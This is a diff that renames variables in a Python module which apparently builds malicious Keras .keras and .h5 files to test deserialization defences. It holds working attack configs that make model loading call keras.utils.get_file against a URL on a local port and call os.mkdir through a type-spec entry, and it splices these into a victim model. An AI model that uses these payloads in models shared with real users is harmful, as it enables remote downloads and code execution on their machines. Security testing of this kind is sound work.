@@ -121,27 +121,27 @@ def _registered(_: int) -> tuple[Json, Json]:
 
 def _older_function(_: int) -> tuple[Json, Json]:
     """Without a module Keras takes the older way, which calls any name in keras.layers."""
-    found = layer("keras.layers", "deserialize", config=function("keras.utils", "get_file"))
-    del found["module"]
-    return found, {}
+    entry = layer("keras.layers", "deserialize", config=function("keras.utils", "get_file"))
+    del entry["module"]
+    return entry, {}
 
 
 def _compiled(port: int) -> tuple[Json, Json]:
     """Keras leaves out how the outermost model was compiled, and no other."""
     inner = keras.Sequential([keras.Input((16, 16, 3)), layers.ReLU()], name="g")
-    found = keras.saving.serialize_keras_object(inner)
+    entry = keras.saving.serialize_keras_object(inner)
     lost = {
         "module": "keras.utils",
         "class_name": "get_file",
         "config": {"origin": _url(port)},
         "registered_name": None,
     }
-    return {**found, "compile_config": {"optimizer": "adam", "loss": lost}}, {}
+    return {**entry, "compile_config": {"optimizer": "adam", "loss": lost}}, {}
 
 
 def _initializer(_: int) -> tuple[Json, Json]:
-    found = {**function("keras.utils", "get_file"), "class_name": "get_file", "config": {"fname": "x"}}
-    return layer("keras.layers", "Conv2D", filters=3, kernel_size=1, kernel_initializer=found), {}
+    initializer = {**function("keras.utils", "get_file"), "class_name": "get_file", "config": {"fname": "x"}}
+    return layer("keras.layers", "Conv2D", filters=3, kernel_size=1, kernel_initializer=initializer), {}
 
 
 def _policy(_: int) -> tuple[Json, Json]:
@@ -149,14 +149,14 @@ def _policy(_: int) -> tuple[Json, Json]:
 
 
 def _type_spec(_: int) -> tuple[Json, Json]:
-    found = {
+    type_spec = {
         "class_name": "__typespec__",
         "module": "os",
         "spec_name": "mkdir",
         "registered_name": "x",
         "config": [],
     }
-    return layer("keras.layers", "ReLU", negative_slope=found), {}
+    return layer("keras.layers", "ReLU", negative_slope=type_spec), {}
 
 
 ATTACKS: dict[str, Callable[[int], tuple[Json, Json]]] = {
@@ -197,7 +197,7 @@ def write_keras(name: str, path: Path, port: int) -> Path:
     """`path`, a .keras whose layer g is the attack of that name."""
     saved = path.with_name("victim.keras")
     _victim().save(saved)
-    found, called = ATTACKS[name](port)
+    attack, called = ATTACKS[name](port)
     with zipfile.ZipFile(saved) as old, zipfile.ZipFile(path, "w") as new:
         for member in old.namelist():
             content = old.read(member)
@@ -208,7 +208,7 @@ def write_keras(name: str, path: Path, port: int) -> Path:
                 nodes = layers_[index]["inbound_nodes"]
                 if called:
                     nodes = [{"args": [], "kwargs": called}]
-                layers_[index] = {**found, "name": "g", "inbound_nodes": nodes}
+                layers_[index] = {**attack, "name": "g", "inbound_nodes": nodes}
                 content = json.dumps(config).encode()
             new.writestr(member, content)
     saved.unlink()
@@ -218,13 +218,13 @@ def write_keras(name: str, path: Path, port: int) -> Path:
 def write_h5(name: str, path: Path, port: int, version: str) -> Path:
     """The same in a .h5 that says that it is of that version of Keras."""
     nets.save_h5(_victim(), path)
-    found, called = ATTACKS[name](port)
+    attack, called = ATTACKS[name](port)
     with h5py.File(path, "r+") as opened:
         config = json.loads(opened.attrs["model_config"])
         layers_ = config["config"]["layers"]
         index = next(i for i, each in enumerate(layers_) if each["name"] == "g")
         nodes = [[["r", 0, 0, called]]]
-        layers_[index] = {**found, "name": "g", "inbound_nodes": nodes}
+        layers_[index] = {**attack, "name": "g", "inbound_nodes": nodes}
         opened.attrs["model_config"] = json.dumps(config)
         opened.attrs["keras_version"] = version
     return path
